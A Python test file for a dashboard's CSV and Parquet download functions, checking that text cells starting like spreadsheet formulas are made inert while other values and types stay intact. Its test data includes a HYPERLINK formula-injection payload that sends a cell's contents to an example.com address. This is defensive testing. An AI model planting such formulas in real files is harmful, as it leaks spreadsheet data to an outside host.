from __future__ import annotations

import csv
import io
from datetime import datetime
from decimal import Decimal

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dashboards.downloads import to_csv, to_parquet

# Written out anew: the rule must not lose one unseen.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.mark.parametrize("start", FORMULA_STARTS)
@pytest.mark.parametrize("dtype", ["str", "object", "category"])
def test_text_that_looks_like_a_formula_is_made_inert(start: str, dtype: str) -> None:
    formula = f'{start}HYPERLINK("http://example.com/?" & A1)'
    frame = pd.DataFrame({"title": pd.Series([formula, "MUG = CUP", None], dtype=dtype)})
    written = pd.read_csv(io.StringIO(to_csv(frame).decode(), newline=""))
    assert written["title"].tolist()[:2] == [f"'{formula}", "MUG = CUP"]
    assert written["title"].isna().tolist() == [False, False, True]


def test_what_is_no_text_stays_as_it_is() -> None:
    frame = pd.DataFrame(
        {
            "change": [-1.5, 2.0],
            "unit_count": [-3, 4],
            "revenue": [Decimal("-12.30"), None],
            "at": [datetime(2026, 1, 5, 10, 30), None],
            "is_new": [True, False],
        }
    )
    assert to_csv(frame).decode() == frame.to_csv(index=False, lineterminator="\r\n")
    assert to_csv(frame).decode().splitlines()[1] == "-1.5,-3,-12.30,2026-01-05 10:30:00,True"


@settings(deadline=None)  # a machine with much to do is no fault
@given(st.lists(st.text(alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\0"))))
def test_no_cell_begins_a_formula_and_none_is_lost(texts: list[str]) -> None:
    frame = pd.DataFrame({"title": pd.Series(texts, dtype="str"), "row": range(len(texts))})
    cells = [row[0] for row in csv.reader(io.StringIO(to_csv(frame).decode(), newline=""))][1:]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert [cell.removeprefix("'") if cell != text else cell for cell, text in zip(cells, texts, strict=True)] == texts


def test_parquet_keeps_types_and_formulas_as_they_are() -> None:
    frame = pd.DataFrame({"title": ["=1+1", None], "day": pd.to_datetime(["2026-01-05", None]), "unit_count": [1, 2]})
    read = pd.read_parquet(io.BytesIO(to_parquet(frame)))
    assert read["title"].tolist()[0] == "=1+1"
    assert read["day"].dtype.kind == "M"
    assert read["unit_count"].tolist() == [1, 2]
